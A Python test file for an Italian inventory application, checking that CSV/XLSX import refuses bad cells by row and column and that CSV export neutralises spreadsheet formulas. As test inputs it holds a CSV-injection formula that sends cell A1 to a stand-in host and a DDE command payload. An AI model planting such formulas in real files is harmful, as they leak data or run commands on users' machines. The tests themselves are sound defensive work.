"""Import and export files made safe (issue 11): every file either imports with each row as
written or is refused with row and column named and nothing changed; a CSV export never
carries a formula a spreadsheet would run. Real SQLite files, expected values by hand."""
from __future__ import annotations

import csv
import shutil
import unicodedata
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from iiss_desktop.db.schema import open_database
from iiss_desktop.domain.errors import DomainError
from iiss_desktop.domain.inventory.import_ import HEADERS
from iiss_desktop.services.inventory import import_ as imp
from tests.helpers.users import act_as_office
from tests.services.inventory.test_import import (  # noqa: F401 - fixtures
    add_places,
    db_state,
    fresh_db,
    rooms,
    row,
    write_csv,
)

HYPERLINK = '=HYPERLINK("http://x.invalid/?"&A1;"clic")'


def _refused(db, path) -> list[tuple[int, str, str]]:
    """(row, column, message) of each error; the import too is refused, nothing written."""
    before = db_state(db)
    report = imp.dry_run(db, path)
    assert not report.ok
    with pytest.raises(DomainError) as info:
        imp.import_file(db, path)
    assert "non è stato importato nulla" in info.value.message
    assert "imprevisto" not in info.value.message
    assert db_state(db) == before
    return [(e.row, e.column, e.message) for e in report.errors]


# --- CSV export: no formula reaches a spreadsheet -----------------------------------------------
def test_csv_export_neutralises_formula_cells_and_imports_back_unchanged(db, rooms, tmp_path,
                                                                         fresh_db):
    # From an .xlsx: its text cells are taken as they are (a CSV cell "'=…" is read as the
    # escape of our own export).
    source = tmp_path / "f.xlsx"
    book = openpyxl.Workbook()
    book.active.append(list(HEADERS))
    for values in (row(1, Descrizione=HYPERLINK, Fornitore="+39 06 1234", Marca="@SUM(1)",
                       Modello="-12,50", Valore="250,00"),
                   row(2, Descrizione="-cmd|' /C calc'!A0", Marca="'=già con apice",
                       Valore="212,50")):   # over 200,00 €: beni mobili (art. 31 c.5)
        book.active.append([values.get(h) for h in HEADERS])
    for cell in book.active[2] + book.active[3]:
        if isinstance(cell.value, str):
            cell.data_type = "s"          # text, not formulas
    book.save(source)
    assert imp.import_file(db, source).imported == 2
    exported = tmp_path / "esportato.csv"
    assert imp.export_inventory(db, exported) == 2
    with open(exported, encoding="utf-8-sig", newline="") as f:
        records = list(csv.reader(f, delimiter=";"))
    at = {h: i for i, h in enumerate(records[0])}
    first, second = records[1], records[2]
    assert first[at["Descrizione"]] == "'" + HYPERLINK
    assert first[at["Fornitore"]] == "'+39 06 1234"
    assert first[at["Marca"]] == "'@SUM(1)"
    assert first[at["Modello"]] == "-12,50"          # a number stays a number
    assert first[at["Valore"]] == "250,00"
    assert second[at["Descrizione"]] == "'-cmd|' /C calc'!A0"
    assert second[at["Marca"]] == "''=già con apice"
    # Our own export imports back as written.
    assert imp.import_file(fresh_db, exported).imported == 2
    assert imp.export_rows(fresh_db) == imp.export_rows(db)
    assert imp.export_rows(fresh_db)[0][HEADERS.index("Descrizione")] == HYPERLINK


def test_xlsx_export_keeps_a_formula_as_text(db, rooms, tmp_path):
    imp.import_file(db, write_csv(tmp_path / "f.csv", [row(1, Descrizione=HYPERLINK)]))
    target = tmp_path / "esportato.xlsx"
    imp.export_inventory(db, target)
    cell = openpyxl.load_workbook(target).active.cell(2, HEADERS.index("Descrizione") + 1)
    assert (cell.value, cell.data_type) == (HYPERLINK, "s")


# --- cells that cannot be stored --------------------------------------------------------------
def test_a_cell_over_128_kb_is_refused_with_row_and_column(db, rooms, tmp_path):
    path = write_csv(tmp_path / "f.csv", [row(1), row(2, Note="x" * 200_000),
                                          row(3, Descrizione="d" * 501)])
    errors = _refused(db, path)
    assert [(r, c) for r, c, _ in errors] == [(3, "Note"), (4, "Descrizione")]
    assert "al massimo 20000 caratteri (ne ha 200000)" in errors[0][2]
    assert "al massimo 500 caratteri (ne ha 501)" in errors[1][2]
    assert len(errors[0][2]) < 300                   # the cell is not repeated whole


def test_a_nul_byte_is_refused_by_the_dry_run_with_row_and_column(db, rooms, tmp_path):
    path = write_csv(tmp_path / "f.csv", [row(1), row(2, Fornitore="Rossi\x00Srl")])
    [(r, c, message)] = _refused(db, path)
    assert (r, c) == (3, "Fornitore")
    assert "carattere nullo (NUL)" in message and "Rossi⟨U+0000⟩Srl" in message


@pytest.mark.postgres
def test_a_nul_byte_is_refused_before_postgresql_sees_it(pg_url, tmp_path):
    db = open_database(pg_url, create=True)
    try:
        act_as_office(db, "mrossi")
        add_places(db)
        path = write_csv(tmp_path / "f.csv", [row(1, Descrizione="Banco\x00biposto")])
        report = imp.dry_run(db, path)
        assert [(e.row, e.column) for e in report.errors] == [(2, "Descrizione")]
        with pytest.raises(DomainError) as info:
            imp.import_file(db, path)
        assert "carattere nullo" in info.value.message
        with db.engine.connect() as conn:
            assert conn.exec_driver_sql("SELECT count(*) FROM inventory_item").scalar() == 0
    finally:
        db.dispose()


def test_an_xlsx_value_of_1e30_is_refused_with_row_and_column(db, rooms, tmp_path):
    path = tmp_path / "f.xlsx"
    book = openpyxl.Workbook()
    book.active.append(list(HEADERS))
    book.active.append([row(1).get(h) for h in HEADERS])
    book.active.append([row(2, Valore=1e30).get(h) for h in HEADERS])
    book.save(path)
    [(r, c, message)] = _refused(db, path)
    assert (r, c) == (3, "Valore")
    assert "entro il massimo ammesso" in message


def test_a_formula_without_its_saved_result_is_named_not_called_empty(db, rooms, tmp_path):
    path = tmp_path / "f.xlsx"
    book = openpyxl.Workbook()          # openpyxl saves formulas without computing them
    book.active.append(list(HEADERS))
    book.active.append([row(1, Valore="=100+150").get(h) for h in HEADERS])
    book.save(path)
    [(r, c, message)] = _refused(db, path)
    assert (r, c) == (2, "Valore")
    assert "formula «=100+150»" in message and "cella vuota" not in message


def test_a_formula_with_its_saved_result_imports_the_result(db, rooms, tmp_path):
    import re
    import zipfile

    written = tmp_path / "scritto.xlsx"
    book = openpyxl.Workbook()
    book.active.append(list(HEADERS))
    book.active.append([row(1, Valore="=100+150").get(h) for h in HEADERS])
    book.save(written)
    # As Excel saves it: the formula and, next to it, its result.
    path = tmp_path / "f.xlsx"
    with zipfile.ZipFile(written) as src, zipfile.ZipFile(path, "w") as out:
        for item in src.infolist():
            data = src.read(item)
            if item.filename.startswith("xl/worksheets/"):
                data = re.sub(rb"<f>100\+150</f>(<v\s*/>|<v></v>)?",
                              b"<f>100+150</f><v>250</v>", data)
            out.writestr(item, data)
    assert imp.import_file(db, path).imported == 1
    assert imp.export_rows(db)[0][HEADERS.index("Valore")] == Decimal("250.00")


# --- encodings ---------------------------------------------------------------------------------
# The columns with ASCII names (all but the optional «Universalità» and its value): the header
# line is the same bytes in every encoding tried below.
ASCII_HEADERS = [h for h in HEADERS if h.isascii()]


def _bytes_file(tmp_path, body: bytes):
    header = ";".join(ASCII_HEADERS).encode("ascii") + b"\r\n"
    path = tmp_path / "f.csv"
    path.write_bytes(header + body)
    return path


def _line(number: int, description: bytes) -> bytes:
    cells = [str(row(number).get(h, "")).encode("ascii") for h in ASCII_HEADERS]
    cells[ASCII_HEADERS.index("Descrizione")] = description
    return b";".join(cells) + b"\r\n"


def test_a_utf8_file_with_one_invalid_byte_is_refused_naming_the_cell(db, rooms, tmp_path):
    path = _bytes_file(tmp_path, _line(1, "Tazza caffè".encode()) +
                       _line(2, b"Sedia \xff caff\xc3\xa8"))
    [(r, c, message)] = _refused(db, path)
    assert (r, c) == (3, "Descrizione")
    assert "UTF-8" in message and "Sedia � caffè" in message


def test_a_whole_windows_1252_file_is_read_so_and_the_report_says_it(db, rooms, tmp_path):
    path = _bytes_file(tmp_path, _line(1, "Tazza caffè – 2€".encode("cp1252")))
    report = imp.dry_run(db, path)
    assert report.ok
    assert "Windows-1252" in report.summary()
    result = imp.import_file(db, path)
    assert "Windows-1252" in result.summary()
    assert imp.export_rows(db)[0][HEADERS.index("Descrizione")] == "Tazza caffè – 2€"


def test_a_utf8_file_says_nothing_about_its_encoding(db, rooms, tmp_path):
    path = _bytes_file(tmp_path, _line(1, "Tazza caffè".encode()))
    assert "Windows-1252" not in imp.dry_run(db, path).summary()


def test_a_file_valid_in_no_encoding_is_refused_naming_the_cell(db, rooms, tmp_path):
    # 0x81 is undefined in Windows-1252 and cannot start a UTF-8 character.
    path = _bytes_file(tmp_path, _line(1, b"Sedia \x81"))
    [(r, c, message)] = _refused(db, path)
    assert (r, c) == (2, "Descrizione") and "Windows-1252" in message


# --- property: imported as written, or refused with row and column ------------------------------
# The free-text columns of the file and their length in inventory_item / register_entry.
FREE = {"Descrizione": (500, False), "Fornitore": (200, False), "Marca": (80, False),
        "Note": (20000, True)}
_PIECE = st.characters(codec="utf-8") | st.sampled_from(
    ["\x00", "\t", "\n", "\r", "\x1b", "\u2028", "e\u0301", "=", "-", "@", "+", ";", '"', "'"])
_CELL = st.one_of(st.lists(_PIECE, max_size=12).map("".join), st.builds(lambda c, n: c * n,
                  st.sampled_from("aè"), st.sampled_from([80, 81, 200, 201, 500, 501])))


def _expected(header: str, cell: str) -> str | None:
    """The text stored for ``cell``, or None if it must be refused (by hand, not the code)."""
    limit, multiline = FREE[header]
    if cell.startswith("'") and cell.lstrip("'")[:1] in ("=", "+", "-", "@", "\t", "\r"):
        cell = cell[1:]                  # the escape of a CSV export, read back
    text = cell.strip()
    if multiline:
        text = text.replace("\r\n", "\n").replace("\r", "\n")
    text = unicodedata.normalize("NFC", text)
    allowed = "\n\t" if multiline else ""
    if any(unicodedata.category(c) in ("Cc", "Cs", "Zl", "Zp") and c not in allowed
           for c in text):
        return None
    if len(text) > limit or (header == "Descrizione" and not text):
        return None
    return text


@pytest.fixture(scope="module")
def template(tmp_path_factory):
    path = tmp_path_factory.mktemp("modello") / "modello.db"
    db = open_database(path, create=True)
    act_as_office(db, "mrossi")
    add_places(db)
    db.dispose()
    return path


@settings(max_examples=30)
@given(st.lists(st.fixed_dictionaries({h: _CELL for h in FREE}), min_size=1, max_size=3))
def test_property_a_file_imports_as_written_or_is_refused_with_row_and_column(
        template, tmp_path_factory, cells):
    folder = tmp_path_factory.mktemp("prova")
    shutil.copy(template, folder / "a.db")
    db = open_database(folder / "a.db")
    try:
        act_as_office(db, "mrossi")
        path = write_csv(folder / "f.csv", [row(i, **c) for i, c in enumerate(cells, start=1)])
        expected = [{h: _expected(h, v) for h, v in c.items()} for c in cells]
        bad = {(i, h) for i, e in enumerate(expected, start=2) for h, v in e.items()
               if v is None}
        before = db_state(db)
        report = imp.dry_run(db, path)
        if bad:
            assert {(e.row, e.column) for e in report.errors} == bad
            with pytest.raises(DomainError):
                imp.import_file(db, path)
            assert db_state(db) == before
            return
        assert report.ok, [e.message for e in report.errors]
        imp.import_file(db, path)
        stored = [{h: r[HEADERS.index(h)] for h in FREE} for r in imp.export_rows(db)]
        assert stored == expected
    finally:
        db.dispose()


def test_a_value_under_no_column_of_the_header_is_refused_not_dropped(db, rooms, tmp_path):
    path = tmp_path / "f.csv"
    cells = [str(row(1).get(h, "")) for h in HEADERS]
    path.write_text(";".join(HEADERS) + "\n" + ";".join(cells) + ";;\n"      # empty: fine
                    + ";".join(str(row(2).get(h, "")) for h in HEADERS) + ";;dimenticato\n",
                    encoding="utf-8")
    [(r, c, message)] = _refused(db, path)
    assert (r, c) == (3, f"n. {len(HEADERS) + 2}")
    assert "«dimenticato»" in message
